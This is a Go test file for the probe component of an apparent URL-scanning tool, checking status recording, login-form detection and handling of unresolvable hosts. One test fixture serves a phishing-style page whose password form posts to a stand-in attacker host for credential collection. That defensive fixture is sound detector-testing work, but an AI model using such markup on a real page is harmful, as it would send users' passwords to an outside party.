package netprobe

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/cyberzilla/urlsentinel/internal/models"
	"github.com/cyberzilla/urlsentinel/internal/normalize"
	"github.com/cyberzilla/urlsentinel/internal/psl"
)

func TestProbeHTTPRecordsStatus(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
		w.Write([]byte("<html><body>hello</body></html>"))
	}))
	defer srv.Close()

	n := New(DefaultBudgets(), psl.New())
	nu := mustNormalize(t, srv.URL)

	obs := n.Probe(context.Background(), nu)
	if obs.HTTPStatus == nil || *obs.HTTPStatus != http.StatusOK {
		t.Fatalf("expected HTTP 200, got %+v", obs.HTTPStatus)
	}
}

func TestProbeDetectsLoginForm(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`<html><body><form action="https://attacker.example/collect"><input type="password"></form></body></html>`))
	}))
	defer srv.Close()

	n := New(DefaultBudgets(), psl.New())
	nu := mustNormalize(t, srv.URL)

	obs := n.Probe(context.Background(), nu)
	if !contains(obs.ContentFlags, "login_form") {
		t.Errorf("expected login_form flag, got %v", obs.ContentFlags)
	}
}

func TestProbeUnreachableHostLeavesFieldsAbsent(t *testing.T) {
	n := New(Budgets{DNSTimeout: 100 * time.Millisecond, TLSTimeout: 100 * time.Millisecond, HTTPTimeout: 100 * time.Millisecond, MaxRedirects: 5}, psl.New())
	nu := models.NormalizedURL{Scheme: "http", Host: "this-host-does-not-resolve.invalid", Path: "/"}

	obs := n.Probe(context.Background(), nu)
	if obs.DNSResolved == nil {
		t.Fatalf("expected DNSResolved to be set (even if false)")
	}
	if *obs.DNSResolved != false {
		t.Errorf("expected DNS resolution to fail for .invalid TLD")
	}
	if obs.HTTPStatus != nil {
		t.Errorf("expected HTTPStatus absent when DNS fails, got %v", *obs.HTTPStatus)
	}
}

func mustNormalize(t *testing.T, raw string) models.NormalizedURL {
	t.Helper()
	nz := normalize.New(nil)
	nu, err := nz.Normalize(raw)
	if err != nil {
		t.Fatalf("normalize %q: %v", raw, err)
	}
	return nu
}

func contains(ss []string, target string) bool {
	for _, s := range ss {
		if strings.EqualFold(s, target) {
			return true
		}
	}
	return false
}
